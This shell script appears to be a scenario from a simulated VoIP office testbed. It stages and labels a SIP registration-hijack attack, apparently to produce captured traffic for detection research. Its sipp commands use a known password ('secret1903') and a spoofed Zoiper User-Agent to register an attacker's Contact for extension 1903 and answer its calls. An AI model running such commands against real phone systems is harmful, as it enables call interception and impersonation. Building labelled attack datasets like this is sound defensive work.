# Somebody outside who knows the password of 1903 adds a Contact of its own to that of the phone:
# calls ring at both, and the stranger answers.
relocate pbx.example.com 5060 10.5.190 203.0.113 198.18.240
EXTENSIONS=(1901 1902 1903 1904 1905 1906)
EXISTING='^19[0-1][0-9]$'
WEAK=none
open_office -A WITH_ROAMING
add_attacker thief 198.18.240.77
start_office_capture
keep_alive 15
office_day 319 105 20-74
for part in register callee; do
    sed 's/\(User-Agent\|Server\): .*/\1: Zoiper v2.10.20.4/' "$parts/sipp/$part.xml" >"$scratch/$part.xml"
done
story="Somebody outside registers another Contact for 1903 with the right password, and answers its calls."
at 17 attack A1-1 hijack:registration_hijack thief 5088 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$scratch/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 198.18.240.77 -p 5088 -s 1903 -au 1903 -ap secret1903 10.5.190.1:5060
at 20 attack A1-2 hijack:registration_hijack thief 5088 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$scratch/callee.xml" -nostdin -m 3 -l 3 -key parameters "" \
    -i 198.18.240.77 -mi 198.18.240.77 -p 5088 -s 1903
n=0
for from in 1905 1901 1906; do
    second=$((24 + 16 * n))
    at "$second" tell "$from" dial "sip:1903@$DOMAIN"
    at "$((second + 11))" tell "$from" hangup
    n=$((n + 1))
done
play
wait_for A1-1 A1-2
close_office
